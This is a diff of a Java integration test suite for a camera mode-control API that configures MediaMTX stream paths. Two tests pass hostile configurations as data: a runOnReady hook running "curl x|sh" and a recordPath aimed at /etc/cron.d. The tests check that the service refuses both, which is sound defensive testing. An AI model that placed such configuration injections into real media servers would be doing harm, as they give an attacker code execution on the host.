@@ -32,23 +32,31 @@ class ModeResourceTest {
     @Test
     void liveAddsTheMediaMtxPathWithTheDeviceConfigurationAndOffDeletesIt() {
         String device = Stubs.plainDevice("off", false, Stubs.SECONDARY_HOST,
-                "{\"path\":\"roof-cam-" + "x\",\"source\":\"rtsp://$host:8554/main\",\"rtspTransport\":\"tcp\"}", List.of("ivan"));
+                "{\"path\":\"roof-cam-" + "x\",\"source\":\"rtsp://$host:8554/main\",\"rtspTransport\":\"tcp\"}",
+                List.of("ivan"));
         Stubs.mediaMtxAnswers("POST", "/v3/config/paths/add/roof-cam-x", 200, null);
         Stubs.mediaMtxAnswers("DELETE", "/v3/config/paths/delete/roof-cam-x", 200, null);
         given().auth().oauth2(Stubs.user("ivan", "control-mode")).post("/api/mode/" + device + "/live").then()
-                .statusCode(200).body("success", equalTo(true)).body("mode", equalTo("live")).body("path", equalTo("roof-cam-x"));
-        Stubs.mediaMtx().verifyThat(1, postRequestedFor(urlPathEqualTo("/v3/config/paths/add/roof-cam-x")).withBasicAuth(Stubs.MEDIAMTX)
-                .withRequestBody(equalToJson("{\"source\":\"rtsp://" + Stubs.PRIMARY_HOST + ":8554/main\",\"rtspTransport\":\"tcp\"}")));
-        given().auth().oauth2(Stubs.user("ivan", "control-mode")).post("/api/mode/" + device + "/off").then().statusCode(200);
-        Stubs.mediaMtx().verifyThat(1, deleteRequestedFor(urlPathEqualTo("/v3/config/paths/delete/roof-cam-x")).withBasicAuth(Stubs.MEDIAMTX));
+                .statusCode(200).body("success", equalTo(true)).body("mode", equalTo("live"))
+                .body("path", equalTo("roof-cam-x"));
+        Stubs.mediaMtx().verifyThat(1, postRequestedFor(urlPathEqualTo("/v3/config/paths/add/roof-cam-x"))
+                .withBasicAuth(Stubs.MEDIAMTX)
+                .withRequestBody(equalToJson(
+                        "{\"source\":\"rtsp://" + Stubs.PRIMARY_HOST + ":8554/main\",\"rtspTransport\":\"tcp\"}")));
+        given().auth().oauth2(Stubs.user("ivan", "control-mode")).post("/api/mode/" + device + "/off").then()
+                .statusCode(200);
+        Stubs.mediaMtx().verifyThat(1,
+                deleteRequestedFor(urlPathEqualTo("/v3/config/paths/delete/roof-cam-x")).withBasicAuth(Stubs.MEDIAMTX));
         // no call back into device-service's set-mode
-        assertEquals(0, Stubs.deviceService().find(postRequestedFor(urlPathEqualTo("/api/run/" + device + "/set-mode"))).size());
+        assertEquals(0, Stubs.deviceService().find(postRequestedFor(urlPathEqualTo("/api/run/" + device + "/set-mode")))
+                .size());
     }
 
     @Test
     void autoAddsAPathPulledOnDemandAndAnExistingPathIsReplaced() {
         String device = Stubs.plainDevice("off", false, null, "{\"source\":\"rtsp://$host/s\"}", List.of());
-        Stubs.mediaMtxAnswers("POST", "/v3/config/paths/add/" + device, 400, "{\"status\":\"error\",\"error\":\"path already exists\"}");
+        Stubs.mediaMtxAnswers("POST", "/v3/config/paths/add/" + device, 400,
+                "{\"status\":\"error\",\"error\":\"path already exists\"}");
         Stubs.mediaMtxAnswers("POST", "/v3/config/paths/replace/" + device, 200, null);
         given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/auto").then().statusCode(200);
         String expected = "{\"source\":\"rtsp://" + Stubs.PRIMARY_HOST + "/s\",\"sourceOnDemand\":true}";
@@ -62,7 +70,8 @@ class ModeResourceTest {
     void mediaMtxDownIsA503NamingMediaMtx() {
         String device = Stubs.plainDevice("off", false, null, "{\"source\":\"rtsp://$host/s\"}", List.of());
         Stubs.mediaMtx().register(WireMock.post(urlPathEqualTo("/v3/config/paths/add/" + device))
-                .willReturn(WireMock.aResponse().withFault(com.github.tomakehurst.wiremock.http.Fault.CONNECTION_RESET_BY_PEER)));
+                .willReturn(WireMock.aResponse()
+                        .withFault(com.github.tomakehurst.wiremock.http.Fault.CONNECTION_RESET_BY_PEER)));
         given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(503)
                 .body("error", equalTo("MediaMTX is unreachable"));
     }
@@ -76,7 +85,8 @@ class ModeResourceTest {
                 .body("success", equalTo(false))
                 .body("error", equalTo("MediaMTX refused (400): invalid source: 'nonsense://10.9.0.1'"));
         String devicePath = Stubs.plainDevice("off", false, null, null, List.of());
-        Stubs.mediaMtxAnswers("DELETE", "/v3/config/paths/delete/" + devicePath, 404, "{\"status\":\"error\",\"error\":\"path not found\"}");
+        Stubs.mediaMtxAnswers("DELETE", "/v3/config/paths/delete/" + devicePath, 404,
+                "{\"status\":\"error\",\"error\":\"path not found\"}");
         given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + devicePath + "/off").then().statusCode(200);
     }
 
@@ -85,17 +95,20 @@ class ModeResourceTest {
         String device = Stubs.plainDevice("off", false, null, "{\"runOnReady\":\"sh -c 'curl x|sh'\"}", List.of());
         given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(400)
                 .body("error", org.hamcrest.Matchers.startsWith("configuration: runOnReady not allowed; allowed are "));
-        assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
+        assertEquals(0,
+                Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
     }
 
     @Test
     void configurationThatWouldWriteFilesOnTheMediaServerIsRefused() {
         String device = Stubs.plainDevice("off", false, null,
-                "{\"source\":\"rtsp://$host:8554/cam\",\"record\":true,\"recordPath\":\"/etc/cron.d/%path\"}", List.of());
+                "{\"source\":\"rtsp://$host:8554/cam\",\"record\":true,\"recordPath\":\"/etc/cron.d/%path\"}",
+                List.of());
         given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(400)
                 .body("error", org.hamcrest.Matchers.containsString("record, recordPath not allowed"))
                 .body("error", org.hamcrest.Matchers.containsString("source, sourceFingerprint, sourceOnDemand"));
-        assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
+        assertEquals(0,
+                Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
     }
 
     @Test
@@ -105,6 +118,7 @@ class ModeResourceTest {
                 .statusCode(403).body("error", equalTo("Missing required permissions: control-mode"));
         given().auth().oauth2(Stubs.user("olga", "control-mode")).post("/api/mode/" + device + "/live").then()
                 .statusCode(403);
-        assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
+        assertEquals(0,
+                Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
     }
 }
